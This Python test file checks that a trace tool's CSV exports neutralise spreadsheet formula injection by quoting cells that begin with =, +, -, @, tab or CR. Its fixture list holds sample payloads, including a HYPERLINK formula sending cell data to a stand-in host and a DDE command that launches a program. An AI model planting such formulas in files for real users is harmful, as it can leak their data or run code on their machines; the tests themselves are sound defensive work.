"""CSV cells that a spreadsheet would evaluate (issue 36 item 23, OWASP "CSV injection"): request ids
from another tool's file that start with = + - @ tab or CR are written with a leading single quote in
every CSV we write (export --csv in memory and out of core, the replay page's download, the slides'
tables); numbers are untouched, and a cell holding a line break stays one cell."""
import csv
import io
import json
import zipfile

import pandas as pd

from core.__main__ import main
from core.analysis.export import metrics_csv
from core.figures.slides import tables_zip
from core.trace import load_trace
from core.trace.parquet import to_parquet_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", "-2+3",
           "\tTAB", "\rCR", "plain", "a=b"]


def hostile_trace(tmp_path):
    """Request k arrives at 10k ms, emits tokens at 10k+4 and 10k+9 ms: TTFT 4, TPOT 5, E2E 9 (by hand)."""
    reqs = [{"id": r, "arrival_ms": 10.0 * k, "prompt_tokens": 4, "max_output_tokens": 2}
            for k, r in enumerate(HOSTILE)]
    events = []
    for k, r in enumerate(HOSTILE):
        events += [{"t_ms": 10.0 * k + 4, "type": "token", "req": r, "index": 0, "source": "sampled"},
                   {"t_ms": 10.0 * k + 9, "type": "token", "req": r, "index": 1, "source": "sampled"},
                   {"t_ms": 10.0 * k + 9, "type": "finish", "req": r, "reason": "length"}]
    p = tmp_path / "hostile.json"
    p.write_text(json.dumps({"schema": "serving-trace/1", "meta": {"source": "imported", "label": "x"},
                             "requests": reqs, "events": events}))
    return p


def expected_cell(rid: str) -> str:
    return "'" + rid if rid[0] in "=+-@\t\r" else rid


def rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def check(text: str):
    got = rows(text)
    assert [r["id"] for r in got] == [expected_cell(r) for r in HOSTILE]
    assert [r["id"] for r in got][-2:] == ["plain", "a=b"]          # cells that start otherwise: as they are
    for k, r in enumerate(got):
        assert float(r["arrival_ms"]) == 10.0 * k and float(r["ttft_ms"]) == 4.0
        assert float(r["tpot_ms"]) == 5.0 and float(r["e2e_ms"]) == 9.0


def test_export_csv_escapes_formula_cells_in_memory_and_out_of_core(tmp_path, capsys):
    src = hostile_trace(tmp_path)
    pq = tmp_path / "hostile.parquet"
    pq.write_bytes(to_parquet_bytes(load_trace(src)))
    for argv in ([str(src)], [str(pq), "--out-of-core"]):
        out = tmp_path / "m.csv"
        assert main(["export", *argv, "--csv", str(out)]) == 0, capsys.readouterr().err
        check(out.read_bytes().decode())
    check(metrics_csv(load_trace(src)))              # what the replay page's download button serves


def test_the_slides_tables_escape_formula_cells_and_keep_numbers():
    df = pd.DataFrame({"request": ["=1+1", "-x", "ok"], "ttft_ms": [-1.5, 2.0, 3.25],
                       "kind": pd.Categorical(["@a", "b", "c"])})
    z = zipfile.ZipFile(io.BytesIO(tables_zip({"t": df})))
    got = rows(z.read("t.csv").decode())
    assert [r["request"] for r in got] == ["'=1+1", "'-x", "ok"]
    assert [r["kind"] for r in got] == ["'@a", "b", "c"]
    assert [float(r["ttft_ms"]) for r in got] == [-1.5, 2.0, 3.25]     # a negative number stays a number
